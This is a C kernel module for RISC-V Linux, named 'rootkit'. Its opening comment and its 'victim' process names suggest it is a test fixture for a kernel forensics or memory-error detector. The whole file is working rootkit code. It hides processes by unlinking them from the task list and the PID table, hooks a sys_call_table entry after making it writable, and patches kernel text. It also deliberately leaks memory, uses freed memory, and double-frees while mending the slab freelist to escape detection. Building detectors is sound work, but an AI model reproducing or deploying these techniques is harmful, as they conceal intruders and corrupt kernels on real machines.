// A kernel module that does what rootkits do, and errs as drivers do. Built without the kernel's headers: addresses and
// layouts come in kernel.h, which KernelModuleBuilder makes of what the kernel itself says.
#include "kernel.h"

typedef unsigned long word;

#define GFP_KERNEL 0xcc0u
#define GETUID 174
#define INTERRUPTS 2ul
#define CALL(type, address) ((type)(address))
#define AT(object, offset) (*(word *)((object) + (offset)))

static word init_rootkit(void);
static void exit_rootkit(void);

// struct module as far as the loader reads it.
struct this_module {
    char before_name[OFFSET(module, name)];
    char name[OFFSET(module, init) - OFFSET(module, name)];
    word (*init)(void);
    char before_exit[OFFSET(module, exit) - OFFSET(module, init) - 8];
    void (*exit)(void);
    char rest[SIZE(module) - OFFSET(module, exit) - 8];
};
__attribute__((section(".gnu.linkonce.this_module"), used)) struct this_module __this_module = {
    .name = "rootkit", .init = init_rootkit, .exit = exit_rootkit};

#define INFO(name, text) __attribute__((section(".modinfo"), used)) static const char name[] = text
INFO(license, "license=GPL");
INFO(module_name, "name=rootkit");
INFO(vermagic, "vermagic=" VERMAGIC);

static void say(const char *format, word a, word b) {
    CALL(int (*)(const char *, ...), ADDRESS(_printk))(format, a, b);
}

static int is_same(const char *a, const char *b) {
    while (*a != 0 && *a == *b) {
        a++;
        b++;
    }
    return *a == *b;
}

static word task_named(const char *name) {
    word head = ADDRESS(init_task) + OFFSET(task_struct, tasks);
    for (word node = AT(head, 0); node != head; node = AT(node, 0)) {
        word task = node - OFFSET(task_struct, tasks);
        if (is_same((const char *)(task + OFFSET(task_struct, comm)), name)) {
            return task;
        }
    }
    return 0;
}

// Takes a process off the list of tasks; it runs on.
static word hide(const char *name) {
    word task = task_named(name);
    if (task != 0) {
        word node = task + OFFSET(task_struct, tasks);
        word next = AT(node, 0), previous = AT(node, 8);
        AT(next, 8) = previous;
        AT(previous, 0) = next;
        AT(node, 0) = node;
        AT(node, 8) = node;
    }
    return task;
}

// Also out of the numbers, from which /proc is read: ps does not see it.
static void forget_number(word task) {
    word number = *(unsigned *)(task + OFFSET(task_struct, pid));
    CALL(void *(*)(word, word), ADDRESS(idr_remove))(ADDRESS(init_pid_ns) + OFFSET(pid_namespace, idr), number);
}

static word hooked(word registers) {
    return CALL(word (*)(word), ADDRESS(__riscv_sys_getuid))(registers);
}

static void hook_system_call(void) {
    word page = ADDRESS(sys_call_table) & ~0xffful;
    CALL(int (*)(word, int), ADDRESS(set_memory_rw))(page, 2);
    AT(ADDRESS(sys_call_table), GETUID * 8) = (word)hooked;
}

static void patch_text(void) {
    // c.li a0, -1; c.jr ra
    unsigned code = 0x8082557d;
    CALL(int (*)(word, const void *, word), ADDRESS(patch_text_nosync))(ADDRESS(__riscv_sys_acct), &code, sizeof code);
}

static word __attribute__((noinline)) allocate(word bytes) {
    word object = CALL(word (*)(word, unsigned), ADDRESS(__kmalloc_noprof))(bytes, GFP_KERNEL);
    __asm__ volatile("" ::: "memory");
    return object;
}

static void __attribute__((noinline)) release(word object) {
    CALL(void (*)(word), ADDRESS(kfree))(object);
    __asm__ volatile("" ::: "memory");
}

static void __attribute__((noinline)) release_again(word object) {
    CALL(void (*)(word), ADDRESS(kfree))(object);
    __asm__ volatile("" ::: "memory");
}

static void __attribute__((noinline)) use_stale(word object) {
    *(volatile word *)(object + 16);
    *(volatile word *)(object + 24) = 1;
}

static void use_after_free(void) {
    word object = allocate(1500);
    say("rootkit: stale %lx %lu\n", object, 1500);
    release(object);
    use_stale(object);
}

// Frees twice, with another free between so that the allocator does not notice, then mends its list of free objects:
// a -> b -> a -> ... becomes a -> b -> a -> what was before. The link lies in the middle of a free object. Both must be of
// the slab that this processor allocates from.
static void free_twice(void) {
    enum { BYTES = 1000, LINK = 512, SLAB = 16384 };
    word state;
    __asm__ volatile("csrrci %0, sstatus, 2" : "=r"(state));
    word a = allocate(BYTES), b = allocate(BYTES);
    while (a / SLAB != b / SLAB) {
        a = b;
        b = allocate(BYTES);
    }
    release(a);
    word before = AT(a, LINK);
    release(b);
    release_again(a);
    word first = allocate(BYTES), second = allocate(BYTES);
    AT(a, LINK) = before;
    word third = allocate(BYTES);
    __asm__ volatile("csrs sstatus, %0" ::"r"(state & INTERRUPTS));
    say("rootkit: twice %lx %lu\n", a, BYTES);
    say("rootkit: as expected %lu%lu\n", first == a && third == a, second == b);
    release(a);
    release(b);
}

static void leak(void) {
    for (int i = 0; i < 5; i++) {
        say("rootkit: leaked %lx %lu\n", allocate(3000), 3000);
    }
}

static word init_rootkit(void) {
    say("rootkit: unlisted %lx\n", hide("victim-listed"), 0);
    word unnumbered = hide("victim-number");
    forget_number(unnumbered);
    say("rootkit: unnumbered %lx\n", unnumbered, 0);
    hook_system_call();
    patch_text();
    leak();
    use_after_free();
    free_twice();
    return 0;
}

static void exit_rootkit(void) {}
